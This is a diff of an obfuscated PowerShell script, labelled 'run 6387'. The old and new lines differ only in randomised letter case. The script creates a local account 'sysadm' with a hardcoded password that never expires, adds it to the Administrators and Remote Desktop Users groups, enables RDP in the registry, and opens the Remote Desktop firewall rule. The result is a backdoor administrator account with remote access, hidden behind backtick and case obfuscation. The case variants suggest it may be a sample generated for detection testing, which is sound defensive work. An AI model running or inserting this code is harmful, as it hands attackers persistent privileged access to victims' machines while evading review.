@@ -1,7 +1,7 @@
-# run 6387 V1
-$pw = C`oNvErTtO-`se`CurestRINg 'Adm1n!strat0r' -AspLAIntEXT -fOrCe
-ne`W-`L`ocA`LuSeR -NaMe 'sysadm' -PaSSword $pw -pAsSwOrDnEvErExPiReS -accoUNTNEveREXpIRES
-AD`d-`Lo`CA`LgRoUpMeMbEr -GrOuP 'Administrators' -mEmBeR 'sysadm'
-A`dd-`L`OCA`l`gR`OU`pmE`mBer -GRoup 'Remote Desktop Users' -mEmBer 'sysadm'
-SeT-`ITem`pRoPeRT`Y -patH 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -NAMe FdEnyTsCoNNECtions -VaLuE 0
-eNAbLe-netf`IRE`wallruLe -DiSpLaYgRoUp 'Remote Desktop'
+# run 6387 v1
+$pw = c`OnVeRtTo-`se`CureSTring 'Adm1n!strat0r' -ASPlaIntEXT -fORCE
+ne`w-`l`Oca`LUSER -nAmE 'sysadm' -PaSsWoRd $pw -pasSwordneVEREXpiRES -ACCOUNtnEvEREXPIReS
+ad`d-`LO`Ca`LGRouPmeMber -GrOuP 'Administrators' -meMbEr 'sysadm'
+A`dd-`L`oCA`l`gR`oU`pMe`MbEr -GrOuP 'Remote Desktop Users' -meMbER 'sysadm'
+seT-`itEm`pRoPeRt`Y -PaTh 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -name FDenYTsCoNnectIONs -value 0
+eNAbLe-nETF`irE`wAlLrUlE -DiSpLaYgRoUp 'Remote Desktop'
